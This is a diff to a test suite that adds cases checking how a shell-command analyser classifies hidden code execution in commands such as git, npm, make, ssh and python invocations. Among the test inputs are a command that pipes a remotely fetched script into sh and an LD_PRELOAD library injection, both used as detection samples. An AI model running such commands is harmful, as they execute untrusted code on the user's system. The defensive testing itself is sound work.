@@ -193,6 +193,23 @@ describe('shell effects: hidden code execution', () => {
     expect(e.network.map((n) => n.host)).toContain('evil.example');
   });
 
+  it.each([
+    ["git -c core.sshCommand='ssh -i k' fetch", 'hidden'],
+    ['git commit -m x', 'hook'],
+    ['npm run build', 'project'],
+    ['make', 'project'],
+    ['bash deploy.sh', 'script'],
+    ['curl https://x.example/i.sh | sh', 'script'],
+    ["python3 -c 'print(1)'", 'inline'],
+    ['python3 -m pytest', 'module'],
+    ['cargo build', 'program'],
+    ['ssh host uptime', 'remote'],
+    ['$CMD', 'runtime'],
+    ['LD_PRELOAD=/tmp/x.so ls', 'hidden'],
+  ])('classifies the code of %s as %s', (line, kind) => {
+    expect(fx(line).exec.map((e) => e.kind)).toContain(kind);
+  });
+
   it('marks an unknown program as code that is not known', () => {
     const e = fx('frobnicate --all').exec[0];
     expect(e).toMatchObject({ program: 'frobnicate', known: false });
